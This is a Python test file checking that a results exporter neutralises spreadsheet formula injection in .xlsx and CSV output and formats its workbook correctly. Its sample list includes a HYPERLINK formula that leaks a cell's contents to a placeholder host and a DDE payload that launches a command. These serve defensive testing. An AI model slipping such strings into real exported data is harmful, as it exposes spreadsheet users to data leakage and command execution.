"""Results that are safe to open in a spreadsheet, and an .xlsx that is usable at once."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from tierkit.evaluation import write_results
from tierkit.plugins._spreadsheet import csv_safe, is_formula_like

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturn",
    "Nul\x00Byte",
    "Bell\x07 GmbH",
    "-12.5",
    "#N/A",
]


def _results() -> pl.DataFrame:
    n = len(HOSTILE)
    return pl.DataFrame(
        {
            "customer_id": [f"c{i}" for i in range(n)],
            "name": HOSTILE,
            "category": ["A", "B", "C", "C", "A", "B", "C", "C", "A", "C"],
            "category.rule": [1, 2, 0, 0, 1, 2, 0, 0, 1, 0],
            "category.because": ["=1+1"] + ["why"] * (n - 1),
            "value": [-50.0, 1000.0, 200.5, 0.0, 300.0, 100.0, 0.0, 10.0, 40.0, 0.0],
            "value_share": [0.0, 0.5, 0.1, 0.0, 0.15, 0.05, 0.0, 0.005, 0.02, 0.0],
        }
    )


def test_formula_like_text() -> None:
    assert [is_formula_like(t) for t in HOSTILE] == [
        True, True, True, True, True, True, False, False, False, False,
    ]  # fmt: skip
    assert not is_formula_like("+1") and not is_formula_like("-1e5") and is_formula_like("-A1")


def test_xlsx_text_is_never_a_formula_and_control_characters_are_replaced(
    tmp_path: Path,
) -> None:
    target = tmp_path / "r.xlsx"
    write_results(_results(), target)
    book = openpyxl.load_workbook(target)
    sheet = book["results"]
    names = [sheet.cell(row=r, column=2) for r in range(2, len(HOSTILE) + 2)]
    assert all(c.data_type == "s" for c in names)
    assert [c.value for c in names][:4] == HOSTILE[:4]
    assert names[6].value == "Nul\ufffdByte" and names[7].value == "Bell\ufffd GmbH"
    assert names[9].value == "#N/A"  # text, not Excel's error value
    assert [c.quotePrefix for c in names] == [True] * 6 + [False] * 4
    because = sheet.cell(row=2, column=5)
    assert because.value == "=1+1" and because.data_type == "s"
    # no formula anywhere in the file
    import zipfile

    with zipfile.ZipFile(target) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets" in n)
    assert b"<f>" not in xml and b"<f " not in xml


def test_xlsx_is_usable_at_once(tmp_path: Path) -> None:
    target = tmp_path / "r.xlsx"
    write_results(_results(), target)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["results", "summary"]
    sheet = book["results"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G11"
    assert sheet.cell(row=1, column=1).font.bold
    assert sheet.cell(row=3, column=6).value == 1000.0
    assert sheet.cell(row=3, column=6).number_format == "#,##0.00"
    assert sheet.cell(row=3, column=7).number_format == "0.0%"
    assert sheet.cell(row=3, column=4).number_format == "#,##0"
    assert sheet.column_dimensions["B"].width >= len(HOSTILE[0]) + 2
    summary = [list(r) for r in book["summary"].iter_rows(values_only=True)]
    # A: c0 -50, c4 300, c8 40 = 290; B: c1 1000, c5 100 = 1100; C: 200.5 + 0 + 10 + 0 = 210.5
    # the positive total is 1000 + 200.5 + 300 + 100 + 10 + 40 = 1650.5, and a category's
    # share is of its positive values (A: 340), as in the run's summary
    assert summary[0] == [
        "category", "customers", "share of customers", "value", "share of positive value",
    ]  # fmt: skip
    assert summary[1][:4] == ["A", 3, 0.3, 290.0]
    assert summary[2][:4] == ["B", 2, 0.2, 1100.0]
    assert summary[3][:4] == ["C", 5, 0.5, 210.5]
    assert summary[4][:4] == ["total", 10, 1, 1600.5]
    assert summary[1][4] == pytest.approx(340 / 1650.5, abs=1e-6)
    assert summary[2][4] == pytest.approx(1100 / 1650.5, abs=1e-6)
    assert summary[4][4] == 1


def test_xlsx_too_big_for_a_sheet_is_refused_without_a_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tierkit.errors import UsageError
    from tierkit.plugins import writers

    monkeypatch.setattr(writers, "MAX_ROWS", 5)
    with pytest.raises(UsageError, match="do not fit an Excel sheet"):
        write_results(_results(), tmp_path / "r.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_csv_text_that_would_run_gets_an_apostrophe(tmp_path: Path) -> None:
    target = tmp_path / "r.csv"
    write_results(_results(), target)
    back = pl.read_csv(target, infer_schema=False)
    assert back["name"].to_list() == [
        "'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturn",
        "Nul\x00Byte", "Bell\x07 GmbH", "-12.5", "#N/A",
    ]  # fmt: skip
    assert back["category.because"][0] == "'=1+1"
    assert back["value"][0] == "-50.0"  # numbers are never touched


def test_csv_safe_leaves_frames_without_text_alone() -> None:
    numbers = pl.DataFrame({"value": [-1.0, 2.0]})
    assert csv_safe(numbers).equals(numbers)


def test_parquet_and_json_keep_the_text_as_it_is(tmp_path: Path) -> None:
    write_results(_results(), tmp_path / "r.parquet")
    assert pl.read_parquet(tmp_path / "r.parquet")["name"].to_list() == HOSTILE
